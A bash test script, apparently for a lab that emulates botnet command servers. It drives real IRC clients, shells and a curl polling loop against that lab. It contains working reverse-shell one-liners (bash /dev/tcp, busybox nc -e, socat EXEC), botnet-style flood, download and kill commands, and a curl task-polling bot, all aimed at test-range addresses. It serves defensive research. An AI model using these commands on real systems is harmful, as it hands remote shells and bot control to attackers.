#!/usr/bin/env bash
# Real programs instead of specimens: an IRC bot and an IRC client at the
# tsunami profile, shells of four kinds at `shell`, curl at `httpbot`.
. "$(dirname "$0")/../tap.sh"
. "$TOP/tests/lab/_lab.bash"
. "$TOP/tests/lab/_drive.bash"

# has NAME PROGRAM...: are they installed? Otherwise the test NAME is skipped.
has() {
	local name=$1 p
	shift
	for p; do
		command -v "$p" >/dev/null || { skip "$name" "needs $p"; return 1; }
	done
}

lab up

# --- IRC -----------------------------------------------------------------------
# eggdrop registers, asks what a bot asks, joins with its key, and its own
# script answers what is said behind "!*". It refuses to run as root.
eggdrop_conf() {
	mkdir "$TMP/egg"
	cat >"$TMP/egg/egg.conf" <<-E2
		set username "egg"
		set admin "a test"
		set network "lab"
		set nick "EggDrop"
		set altnick "EggDro?"
		set realname "a real bot"
		set userfile "egg.user"
		set chanfile "egg.chan"
		set mod-path "$(dirname "$(find /usr/lib -name irc.so -path '*eggdrop*' | head -n 1)")/"
		set help-path "/usr/share/eggdrop/help/"
		set text-path "/usr/share/eggdrop/text/"
		loadmodule blowfish
		loadmodule channels
		loadmodule server
		loadmodule irc
		set servers { irc.eggdrop.example:6667 }
		channel add #specimens { chanmode "+k harmless" }
		bind pubm - "#specimens !\\\\* VERSION" answer
		proc answer {nick host hand chan text} {
			putserv "NOTICE \$nick :eggdrop \$::version"
		}
		bind pubm - * keep
		proc keep {nick host hand chan text} {
			set f [open heard a]
			puts \$f "\$nick \$chan \$text"
			close \$f
		}
	E2
	chmod -R a+rwX "$TMP" "$TMP/egg"
}
if has eggdrop eggdrop setpriv; then
	eggdrop_conf
	cat >"$TMP/bot" <<-E2
		#!/bin/sh
		cd $TMP/egg && exec setpriv --reuid 65534 --regid 65534 --clear-groups \
			eggdrop -n -m egg.conf >$TMP/egg/out 2>&1 &
	E2
	chmod +x "$TMP/bot"
	BOT=$TMP/bot drive eggdrop --profile auto --set only=VERSION,UDP,GET,KILL \
		--set window=14 --set quiet=4 # a message every two seconds
	is 'eggdrop: auto finds the tsunami profile' "$(players)" tsunami
	is 'eggdrop: it joins its channel, with the key' "$(events '.note.kind == "channel"' |
		jq -r '"\(.note.name) \(.note.key)"')" '#specimens harmless'
	is 'eggdrop: every command is sent' "$(sent)" VERSION,UDP,GET,KILL
	said VERSION 'eggdrop 1\.'
	is 'eggdrop: its script heard every command in the channel' "$(<"$TMP/egg/heard")" \
		'master #specimens !* VERSION
master #specimens !* UDP 198.18.0.1 9999 5
master #specimens !* GET http://198.18.0.1/index.html /tmp/.get
master #specimens !* KILL'
	is 'eggdrop: nothing that it asked is unknown' "$(events '.data.direction == "to_client"' |
		jq -r '.data.text // ""' | grep ' 421 ')" ''
	is 'eggdrop: the profile made no mistake' "$(count '.event_type == "error"')" 0
	[[ -z ${KEEP:-} ]] || cp -r "$TMP/egg" "$KEEP/"
fi

# irssi, in a terminal of its own: the analyst would see this window.
irssi_saw() {
	tmux -S "$TMP/tmux" send-keys Escape 2
	tmux -S "$TMP/tmux" capture-pane -p >"$TMP/pane" &&
		grep -q "master>.*!\* GETSPOOFS" "$TMP/pane"
}
if has irssi irssi tmux; then
	mkdir "$TMP/irssi"
	cat >"$TMP/irssi/config" <<-'E2'
		servers = ( { address = "irc.irssi.example"; chatnet = "lab"; port = "6667"; autoconnect = "yes"; } );
		chatnets = { lab = { type = "IRC"; nick = "watcher"; }; };
		channels = ( { name = "#specimens"; chatnet = "lab"; autojoin = "yes"; password = "harmless"; } );
		settings = { core = { real_name = "a real client"; user_name = "watcher"; nick = "watcher"; }; };
	E2
	cat >"$TMP/bot" <<-E2
		#!/bin/sh
		unset TMUX
		exec tmux -S $TMP/tmux -f /dev/null new-session -d -x 120 -y 40 \
			"env TERM=screen irssi --home=$TMP/irssi"
	E2
	BOT=$TMP/bot LOOK=irssi_saw drive irssi --profile tsunami \
		--set only=VERSION,UDP,GETSPOOFS --set window=3
	is 'irssi: every command is sent' "$(sent)" VERSION,UDP,GETSPOOFS
	[[ -z ${KEEP:-} ]] || cp "$TMP/pane" "$KEEP/irssi.pane"
	check 'irssi shows the commands' grep -q 'master>.*!\* UDP 198\.18\.0\.1 9999' "$TMP/pane"
	check 'irssi shows the channel and its topic' grep -q '#specimens' "$TMP/pane"
	is 'irssi: the profile made no mistake' "$(count '.event_type == "error"')" 0
fi

# --- shells --------------------------------------------------------------------
# What each is asked for: an answer, a word it lacks, the end of the shell.
ASKED=id,uname,echo,nonsense,exit
shell_answers() {
	is "$1: shell plays it" "$(players)" shell
	is "$1: every command is sent" "$(sent)" "$ASKED"
	said id '"uid=0(root)'
	said uname '"Linux '
	is "$1: uname says what is expected" "$(events '.note.kind == "reply" and
		.note.name == "uname"' | jq .note.matched)" true
	said echo '"kage42musha\\n"'
	said nonsense '"unknown":true'
	is "$1: exit ends it, and it comes back or not" \
		"$(count '.note.kind == "disconnected" and .note.after == "exit"')" 1
}
real "bash -c 'exec bash --norc -i >&/dev/tcp/198.18.7.7/4444 0>&1' 2>/dev/null" \
	--profile shell --set only=$ASKED --set window=4 --set quiet=1.5
shell_answers 'bash, /dev/tcp'
real 'busybox nc 198.18.7.7 4444 -e /bin/sh' --profile auto --set only=$ASKED --set quiet=1
said id '"uid=0(root)'
is 'busybox nc -e: found by its silence' "$(players)" shell
is 'busybox nc -e: every command is sent' "$(sent)" "$ASKED"
if has 'socat' socat; then
	real 'socat TCP:198.18.7.7:4444 EXEC:/bin/sh,stderr' --profile auto --set only=$ASKED --set quiet=1
	shell_answers 'socat'
	# On a busy machine bash takes its time to become a terminal's master.
	for window in 4 12; do
		real "socat TCP:shell.socat.example:9001 EXEC:'bash --norc -i',pty,stderr,setsid,ctty" \
			--profile auto --set only=$ASKED --set window=$window --set quiet=1.5
		[[ $(count '.note.kind == "reply" and .note.matched') == 0 ]] || break
		diag 'nothing was answered: again, with more time'
	done
	shell_answers 'socat with a terminal'
fi

# --- curl ----------------------------------------------------------------------
# A bot of two lines of shell: asks, and posts what it was told to do.
if has 'curl in a loop' curl; then
	for scheme in http https; do
		cat >"$TMP/poll" <<-E2
			task=\$(curl -sk $scheme://gate.real.example/gate?id=5)
			[ -z "\$task" ] || curl -sk -d "done \$task" $scheme://gate.real.example/result?id=5
		E2
		real "sh $TMP/poll" --profile auto --set only=info,udp,exec
		is "curl, $scheme: httpbot plays it" "$(players)" httpbot
		is "curl, $scheme: every task is taken" "$(sent)" info,udp,exec
		said info "done 1 info"
		said udp "done 2 udp 198.18.0.1 9999 4"
		is "curl, $scheme: its results are files" \
			"$(cat "$run"/files/* | grep -o 'done [0-9] [a-z]*' | sort | paste -sd,)" \
			'done 1 info,done 2 udp,done 3 exec'
		is "curl, $scheme: the profile made no mistake" "$(count '.event_type == "error"')" 0
	done
fi

lab down
